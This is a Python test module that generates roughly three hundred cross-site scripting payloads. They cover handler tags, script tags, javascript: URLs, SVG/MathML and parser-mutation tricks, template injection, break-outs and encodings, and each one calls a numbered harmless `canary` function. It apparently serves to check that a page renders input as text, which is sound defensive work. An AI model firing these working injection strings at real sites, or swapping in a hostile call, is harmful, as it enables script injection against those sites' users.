"""What an attacker would type: some three hundred strings that call `canary` if any part of the page reads them as anything but text.

Families: HTML elements with handlers, scripts, attribute and comment break-outs, URLs, SVG and MathML, mutation, templates, CSS, encodings,
and formulae. `{n}` is the payload's number, so that a fired canary names its origin.

It deliberately holds no server attack.
"""

from typing import Final

CALL: Final = "canary({n})"
HANDLERS: Final = (
    "<img src=x onerror={c}>", "<img/src=x/onerror={c}>", "<img src=x onerror='{c}'>", '<img src=x onerror="{c}">',
    "<img src=x onerror=`{c}`>",
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributename=x>", "<body onload={c}>", "<body onpageshow={c}>", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>", "<textarea autofocus onfocus={c}>", "<details open ontoggle={c}>", "<video src=x onerror={c}>",
    "<video><source onerror={c}></video>", "<audio src=x onerror={c}>", "<object data=x onerror={c}>", "<iframe onload={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'>", "<iframe src=javascript:parent.{c}>", "<embed src=javascript:{c}>",
    "<object data=javascript:{c}>", "<marquee onstart={c}>x</marquee>", "<form><button formaction=javascript:{c}>x</button></form>",
    "<isindex action=javascript:{c} type=image>", "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>",
    "<a href=&#106;avascript:{c}>x</a>", "<math href=javascript:{c}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{c}>x",
    "<style onload={c}></style>", "<link rel=stylesheet href=data:, onload={c}>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=javascript:{c}//>", "<table background=javascript:{c}>", "<div style=background:url(javascript:{c})>x</div>",
    "<div onpointerenter={c} style='position:fixed;inset:0'>x</div>", "<x onfocus={c} tabindex=1 autofocus>x</x>",
    "<dialog open onfocus={c} autofocus>x</dialog>",
    "<button popovertarget=x autofocus onfocus={c}>x</button><p popover id=x onbeforetoggle={c}>",
    "<script>{c}</script>", "<script src=data:,{c}></script>", "<script type=module>{c}</script>", "<script>\n{c}\n</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<SCRIPT>{c}</SCRIPT>", "<script/x>{c}</script>", "<ſcript>{c}</ſcript>",
    "<template><script>{c}</script></template>", "<svg><use href=data:image/svg+xml,<svg%20onload={c}>>",
    "<svg><foreignObject><body onload={c}></foreignObject></svg>", "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>",
    "<img srcset=x onerror={c}>", "<picture><source srcset=x><img onerror={c} src=x></picture>", "<image src=x onerror={c}>",
    "<custom-element onclick={c}>x</custom-element>", "<slot onslotchange={c}></slot>", "<frameset onload={c}>",
    "<portal src=javascript:{c}>",
)  # fmt: skip
MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>", "<svg></p><style><a id='</style><img src=x onerror={c}>'>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={c}></annotation-xml>",
    "<svg><desc><img src=x onerror={c}></desc></svg>",
    "<listing>&lt;img src=x onerror={c}&gt;</listing>", "<xmp><img src=x onerror={c}></xmp>", "<![CDATA[<img src=x onerror={c}>]]>",
    "<?xml version='1.0'?><img src=x onerror={c}>", "<!--><img src=x onerror={c}>-->", "<!--!><img src=x onerror={c}>",
    "<p id='a\0'><img src=x onerror={c}>",
    "<select><style></select><img src=x onerror={c}></style>", "<title><a id='</title><img src=x onerror={c}>'>",
)  # fmt: skip
TEXTUAL: Final = (
    "javascript:{c}", "JaVaScRiPt:{c}", "\x01javascript:{c}", "data:text/html,<script>{c}</script>", "vbscript:{c}", "${{{c}}}",
    "`${{{c}}}`", "#{{{c}}}",
    "{{{{{c}}}}}", "{{{{constructor.constructor('{c}')()}}}}", "<%= {c} %>", "[[${{{c}}}]]", "';{c};'", '";{c};"', "');{c};//",
    '");{c};//', "\\';{c};//",
    "*/{c}/*", "//\n{c}", "]]>{c}", "-->\n{c}", "</script>{c}", "expression({c})", "@import 'javascript:{c}'", "url(javascript:{c})",
    "=HYPERLINK({c})",
    "[x](javascript:{c})", "![x](x onerror={c})", "<javascript:{c}>", "[x]: javascript:{c}", "\\[\\href{{javascript:{c}}}{{x}}\\]",
    "$\\unicode[{c}]$",
    "%3Cimg src=x onerror={c}%3E", "&lt;img src=x onerror={c}&gt;", "\\u003cimg src=x onerror={c}\\u003e",
    "\\x3cimg src=x onerror={c}\\x3e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "＜img src=x onerror={c}＞", "\u202e<img src=x onerror={c}>", "<\u200bimg src=x onerror={c}>",
)  # fmt: skip
BREAKOUTS: Final = (
    '">',
    "'>",
    "`>",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "</svg>",
    "</template>",
    "]]>",
    '\\">',
)
"""In front of the first handlers, as if the text stood inside something else."""


def _all() -> list[str]:
    shapes = [*HANDLERS, *MUTATIONS, *TEXTUAL, *(f"{out}{inside}" for out in BREAKOUTS for inside in HANDLERS[:14])]
    return [shape.format(c=CALL.format(n=number)) for number, shape in enumerate(shapes, start=1)]


PAYLOADS: Final = tuple(_all())


def packed(length: int, joint: str = " ") -> list[str]:
    """All payloads in strings of at most `length` characters, whole as far as they fit and cut where one alone is longer."""
    found: list[str] = []
    for payload in PAYLOADS:
        cut = payload[:length]
        if found and len(found[-1]) + len(joint) + len(cut) <= length:
            found[-1] += joint + cut
        else:
            found.append(cut)
    return found
